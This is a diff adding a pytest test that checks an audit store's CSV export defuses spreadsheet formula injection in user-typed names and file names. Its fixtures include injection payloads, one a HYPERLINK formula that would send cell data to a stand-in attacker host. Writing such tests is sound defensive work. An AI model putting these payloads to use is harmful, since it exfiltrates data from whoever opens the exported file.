@@ -1,7 +1,9 @@
 """The store on SQLite and on a real PostgreSQL server: migrations, the append-only audit trail,
 accounts and the lock, refusals of damaged, read-only and newer databases, concurrent writers."""
 
+import csv
 import datetime
+import io
 import os
 import sqlite3
 import threading
@@ -44,6 +46,26 @@ def test_record_and_read_back_with_filters(store):
     assert csv.splitlines()[0].startswith("id,at,kind,user") and '"{""call"": ""malignant""' in csv
     with pytest.raises(ValueError, match="unknown audit kind"):
         store.record("made_up", "ann")
+
+
+def test_csv_export_makes_formulas_inert_and_keeps_the_rows(store):
+    # A failed sign-in's name and an upload's file name are chosen by whoever types them.
+    formulas = ['=HYPERLINK("http://attacker.example/?"&A2,"details")', "+1+1", "-2+3", "@SUM(A1:A9)",
+                "\t=1+1", "\r=1+1"]
+    for typed in formulas:
+        store.record("sign_in_failed", typed, details={"reason": "unknown account"})
+        store.record("diagnosis", "ann", typed + ".png", details={"call": "benign"})
+    store.record("diagnosis", "ann", "a-b=c.png", details={"call": "benign"})
+    store.record("sign_in_failed", "x\r=1+1", details={"reason": "unknown account"})  # a CR must start no new row
+    exported = list(csv.DictReader(io.StringIO(store.csv(newest_first=False).decode(), newline="")))
+    users = [r["user"] for r in exported if r["kind"] == "sign_in_failed"]
+    subjects = [r["subject"] for r in exported if r["kind"] == "diagnosis"]
+    assert users == ["'" + typed for typed in formulas] + ["x\r=1+1"]
+    assert subjects == ["'" + typed + ".png" for typed in formulas] + ["a-b=c.png"]  # only a cell's start matters
+    assert len(exported) == 2 * len(formulas) + 2 and all(r["details"].startswith("{") for r in exported)
+    # The trail itself and the page's table keep the text as it was recorded.
+    assert [r["user"] for r in store.events(kinds="sign_in_failed", newest_first=False)] == formulas + ["x\r=1+1"]
+    assert list(store.frame(kinds="sign_in_failed", newest_first=False)["user"]) == formulas + ["x\r=1+1"]
 
 
 def test_audit_rows_cannot_be_changed_by_the_orm_or_by_sql(store):
